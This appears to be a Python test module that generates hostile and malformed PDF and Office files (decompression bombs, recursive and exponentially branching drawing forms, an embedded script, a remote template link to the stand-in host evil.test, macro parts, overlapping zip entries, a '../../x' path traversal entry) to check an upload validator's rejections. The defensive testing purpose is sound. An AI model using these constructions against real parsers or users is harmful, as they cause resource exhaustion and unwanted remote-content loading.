"""PDF, Word and Excel files and what pretends to be one."""

import io
import zipfile
import zlib
from collections.abc import Iterator

from tests.evidence.case import BROKEN_OFFICE, BROKEN_PDF, EXE, HEAVY, HTML, MACROS, MISMATCH, OLE, Case, same
from tests.factories.evidence import DOCX_PARTS, XLSX_PARTS, make_office, make_pdf, make_picture


def huge_pdf_picture() -> bytes:
    """A page that shows an uncompressed picture said to be 40,000 by 40,000."""
    data = zlib.compress(b"\0" * 10_000_000)
    head = b"<</Type/XObject/Subtype/Image/Width 40000/Height 40000/BitsPerComponent 8/ColorSpace/DeviceRGB"
    image = head + b"/Filter/FlateDecode/Length %d>>stream\n" % len(data) + data + b"\nendstream"
    show = b"q 500 0 0 500 0 0 cm /I Do Q"
    content = b"<</Length %d>>stream\n%s\nendstream" % (len(show), show)
    return make_pdf(page=b"/Resources<</XObject<</I 6 0 R>>>>/Contents 7 0 R", more=(image, content))


def looping_pdf() -> bytes:
    """A form that draws itself, many times over."""
    show = b"/F Do " * 1000
    form = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 6 0 R>>>>/Length %d>>" % len(
        show
    )
    content = b"<</Length %d>>stream\n%s\nendstream" % (len(show), show)
    more = (form + b"stream\n" + show + b"\nendstream", content)
    return make_pdf(page=b"/Resources<</XObject<</F 6 0 R>>>>/Contents 7 0 R", more=more)


def branching_pdf(levels: int = 12) -> bytes:
    """Forms that each draw the next ten times: 10 to the power of `levels` strokes."""
    objects = []
    for level in range(levels):
        show = b"/F Do " * 10 if level < levels - 1 else b"0 0 9 9 re f"
        head = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F %d 0 R>>>>/Length %d>>"
        objects.append(head % (7 + level, len(show)) + b"stream\n" + show + b"\nendstream")
    content = b"<</Length 5>>stream\n/F Do\nendstream"
    page = b"/Resources<</XObject<</F 6 0 R>>>>/Contents %d 0 R" % (6 + levels)
    return make_pdf(page=page, more=(*objects, content))


def pdf_bomb() -> bytes:
    """A page whose drawing unfolds to 400 MB."""
    data = zlib.compress(b"0 0 1 1 re f " * 1_000_000 * 30, 9)
    content = b"<</Filter/FlateDecode/Length %d>>stream\n" % len(data) + data + b"\nendstream"
    return make_pdf(page=b"/Contents 6 0 R", more=(content,))


SIGNATURE = (
    b"<</Type/Annot/Subtype/Widget/FT/Sig/T(S)/Rect[0 0 0 0]/V 7 0 R>>",
    b"<</Type/Sig/Contents<00>>>",
)
SIGNED = b"/AcroForm<</Fields[6 0 R]/SigFlags 3>>"
SCRIPT = b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>"
LOCKED = (
    b"/Encrypt<</Filter/Standard/V 1/R 2/O<" + b"41" * 32 + b">/U<" + b"42" * 32 + b">/P -4>>/ID[<41><41>]"
)


def locked_pdf() -> bytes:
    """A PDF that asks for a password."""
    return make_pdf().replace(b"trailer<<", b"trailer<<" + LOCKED)


def pdfs() -> Iterator[Case]:
    """PDFs and what pretends to be one."""
    yield Case("pdf", "a.pdf", make_pdf)
    yield Case("pdf of fifty pages", "a.pdf", lambda: make_pdf(50))
    yield Case("pdf of a giant page", "a.pdf", lambda: make_pdf().replace(b"[0 0 595 842]", b"[0 0 1e9 1e9]"))
    yield Case("pdf with a script", "a.pdf", lambda: make_pdf(catalog=SCRIPT))
    yield Case("signed pdf", "a.pdf", lambda: make_pdf(catalog=SIGNED, more=SIGNATURE))
    yield Case("pdf that draws itself", "a.pdf", looping_pdf, HEAVY)
    yield Case("pdf of a huge picture", "a.pdf", huge_pdf_picture)
    yield Case("pdf with a page behind it", "a.pdf", lambda: make_pdf() + HTML)
    yield Case("pdf of fifty-one pages", "a.pdf", lambda: make_pdf(51), "hơn 50 trang")
    yield Case(
        "signed pdf with a script",
        "a.pdf",
        lambda: make_pdf(catalog=SIGNED + SCRIPT, more=SIGNATURE),
        "mã lệnh",
    )
    yield Case("pdf of ten to the twelfth", "a.pdf", branching_pdf, HEAVY)
    yield Case("pdf bomb", "a.pdf", pdf_bomb, HEAVY)
    yield Case("locked pdf", "a.pdf", locked_pdf, "Tệp có mật khẩu")
    yield Case("pdf without pages", "a.pdf", lambda: make_pdf(0), BROKEN_PDF)
    yield Case("pdf head only", "a.pdf", same(b"%PDF-1.7\n"), BROKEN_PDF)
    yield Case("cut pdf", "a.pdf", lambda: make_pdf()[:120], BROKEN_PDF)
    yield Case("picture named pdf", "a.pdf", make_picture, MISMATCH)
    yield Case("page named pdf", "a.pdf", same(HTML), MISMATCH)
    yield Case("pdf behind a picture", "a.pdf", lambda: make_picture() + make_pdf(), MISMATCH)
    yield Case("docx named pdf", "a.pdf", make_office, MISMATCH)


# ---- Word and Excel ----

REMOTE_TEMPLATE = (
    '<Relationships><Relationship Id="r" TargetMode="External" Target="http://evil.test/t.dotm" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)


def many_entries(count: int) -> bytes:
    """A .docx of very many empty parts."""
    return make_office(**{f"word/part{number}.xml": "" for number in range(count)})


def overlapping_zip() -> bytes:
    """A .docx whose directory names the same bytes fifty times."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in DOCX_PARTS.items():
            archive.writestr(name, content)
        archive.writestr("word/a.xml", b"\0" * 100_000)
        first = archive.getinfo("word/a.xml")
        for number in range(50):
            again = zipfile.ZipInfo(f"word/b{number}.xml")
            for field in (
                "header_offset",
                "compress_size",
                "file_size",
                "CRC",
                "compress_type",
                "external_attr",
            ):
                setattr(again, field, getattr(first, field))
            archive.filelist.append(again)
            archive.NameToInfo[again.filename] = again
        archive._didModify = True
    return target.getvalue()


def locked_part() -> bytes:
    """A .docx with one part marked as encrypted."""
    whole = bytearray(make_office())
    whole[whole.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(whole)


def wrong_checksum() -> bytes:
    """A .docx one of whose parts was changed on the way."""
    whole = bytearray(make_office(**{"word/a.xml": bytes(range(256)) * 8}))
    whole[whole.index(b"word/a.xml") + 20] ^= 0xFF
    return bytes(whole)


def office() -> Iterator[Case]:
    """Word and Excel files and what pretends to be one."""
    yield from active_office()
    yield from broken_office()


def active_office() -> Iterator[Case]:
    """Good ones, and those that would do something by themselves."""
    yield Case("docx", "a.docx", make_office)
    yield Case("xlsx", "a.xlsx", lambda: make_office(XLSX_PARTS))
    yield Case(
        "docx with its own template",
        "a.docx",
        lambda: make_office(
            **{
                "word/_rels/settings.xml.rels": REMOTE_TEMPLATE.replace(
                    "http://evil.test/", "file:///C:/Users/"
                )
            }
        ),
    )
    yield Case(
        "docx that loads a template",
        "a.docx",
        lambda: make_office(**{"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}),
        "lấy nội dung từ nơi khác",
    )
    yield Case("macros in a docx", "a.docx", lambda: make_office(**{"word/vbaProject.bin": "x"}), MACROS)
    yield Case(
        "macro sheet in an xlsx",
        "a.xlsx",
        lambda: make_office({**XLSX_PARTS, "xl/macrosheets/a.xml": ""}),
        MACROS,
    )
    yield Case(
        "docm named docx",
        "a.docx",
        lambda: make_office(
            {**DOCX_PARTS, "[Content_Types].xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}
        ),
        MACROS,
    )


def broken_office() -> Iterator[Case]:
    """Locked, cut, packed to burst, or something else under their ending."""
    yield Case("docx with a password", "a.docx", same(OLE), "Tệp có mật khẩu")
    yield Case("docx with a locked part", "a.docx", locked_part, "Tệp có mật khẩu")
    yield Case("xlsx named docx", "a.docx", lambda: make_office(XLSX_PARTS), MISMATCH)
    yield Case("zip named docx", "a.docx", lambda: make_office({"a.txt": "x"}), MISMATCH)
    yield Case("page named docx", "a.docx", same(HTML), MISMATCH)
    yield Case("docx behind a program", "a.docx", lambda: EXE + make_office(), MISMATCH)
    yield Case("cut docx", "a.docx", lambda: make_office()[:-30], BROKEN_OFFICE)
    yield Case("docx with a wrong checksum", "a.docx", wrong_checksum, BROKEN_OFFICE)
    yield Case(
        "60 MB of zeros in an xlsx",
        "a.xlsx",
        lambda: make_office({**XLSX_PARTS, "xl/a.xml": b"\0" * 60_000_000}),
        BROKEN_OFFICE,
    )
    yield Case("docx of 10,000 parts", "a.docx", lambda: many_entries(10_000), BROKEN_OFFICE)
    yield Case("docx that overlaps itself", "a.docx", overlapping_zip, BROKEN_OFFICE)
    yield Case("docx that climbs out", "a.docx", lambda: make_office(**{"../../x": "x"}), BROKEN_OFFICE)
